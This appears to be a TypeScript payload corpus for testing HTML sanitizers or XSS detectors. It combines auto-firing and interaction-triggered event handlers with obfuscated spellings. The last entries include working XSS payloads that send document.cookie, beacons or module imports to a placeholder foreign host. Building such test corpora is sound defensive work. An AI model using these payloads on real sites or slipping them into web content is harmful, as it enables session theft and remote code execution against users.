import { combine } from "../combine.ts";
import { FOREIGN_HOST, RUN } from "../hook.ts";

/**
 * Elements whose event handler runs without a user action. Each entry has the element, the handler
 * and the element's other attributes.
 */
const SELF_STARTING = [
  ["img", "onerror", "src=x"],
  ["image", "onerror", "src=x"],
  ["svg", "onload", ""],
  ["body", "onload", ""],
  ["body", "onpageshow", ""],
  ["iframe", "onload", ""],
  ["object", "onerror", "data=x:"],
  ["embed", "onload", "src=about:blank"],
  ["link", "onerror", "rel=stylesheet href=x:"],
  ["style", "onload", ""],
  ["script", "onerror", "src=x:"],
  ["video", "onerror", "src=x"],
  ["audio", "onerror", "src=x"],
  ["details", "ontoggle", "open"],
  ["marquee", "onstart", ""],
  ["input", "onfocus", "autofocus"],
  ["textarea", "onfocus", "autofocus"],
  ["select", "onfocus", "autofocus"],
  ["button", "onfocus", "autofocus"],
  ["p", "onfocus", "tabindex=0 autofocus"],
  ["xyz", "onfocus", "contenteditable autofocus"],
  ["input", "onerror", "type=image src=x"],
] as const;

/**
 * Elements whose event handler runs after a user action or another event. Each entry has the
 * element and the handler.
 */
const WAITING = [
  ["a", "onclick"],
  ["div", "onpointerover"],
  ["b", "onmouseenter"],
  ["form", "onsubmit"],
  ["form", "onformdata"],
  ["input", "oninput"],
  ["input", "oninvalid"],
  ["dialog", "onclose"],
  ["div popover", "onbeforetoggle"],
  ["div", "onanimationstart"],
  ["div", "ontransitionend"],
  ["div", "oncontentvisibilityautostatechange"],
  ["div", "onbeforematch"],
  ["div", "onscrollend"],
  ["body", "onhashchange"],
  ["body", "onmessage"],
  ["body", "onbeforeunload"],
  ["p", "oncopy"],
  ["p", "onkeydown"],
  ["p", "onwheel"],
] as const;

/** Different spellings of the same handler. */
const SPELLINGS: readonly ((handler: string) => string)[] = [
  (handler) => ` ${handler}=${RUN}`,
  (handler) => `/${handler}="${RUN}"`,
  (handler) => `\n${handler.toUpperCase()}\n=\n'${RUN}'`,
  (handler) => `\t${handler} = &#95;&#x5f;xss&lpar;)`,
];

/**
 * Elements with event handlers. Handlers that run without a user action occur in every spelling,
 * and the other handlers in one spelling. The last payloads have effects other than a call of the
 * hook.
 */
export const handlers: readonly string[] = [
  ...combine(
    SELF_STARTING,
    SPELLINGS,
    ([tag, handler, rest], spell) => `<${tag} ${rest}${spell(handler)}>`,
  ),
  ...WAITING.map(([tag, handler]) => `<${tag} ${handler}=${RUN}>click me`),
  "<img src=x onerror=alert(1)>",
  "<svg onload=confirm`1`>",
  "<img src=x onerror=prompt(document.domain)>",
  "<svg onload=print()>",
  `<img src=x onerror="new Image().src='//${FOREIGN_HOST}/?'+document.cookie">`,
  `<svg onload="fetch('//${FOREIGN_HOST}/',{mode:'no-cors'})">`,
  `<img src=x onerror="location='//${FOREIGN_HOST}/'">`,
  `<img src=x onerror="import('//${FOREIGN_HOST}/m.js')">`,
  `<img src=x onerror="navigator.sendBeacon('//${FOREIGN_HOST}/')">`,
  `<svg onload="open('//${FOREIGN_HOST}/')">`,
];
